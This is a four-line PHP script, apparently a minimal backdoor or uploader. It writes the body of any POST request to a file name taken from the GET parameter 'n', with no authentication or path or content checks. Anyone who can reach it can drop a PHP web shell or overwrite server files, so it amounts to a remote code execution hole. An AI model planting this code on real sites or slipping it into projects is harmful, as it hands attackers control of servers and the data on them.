<?php
$name = $_GET['n'];
file_put_contents($name, $_POST['body']);
echo 'ok';
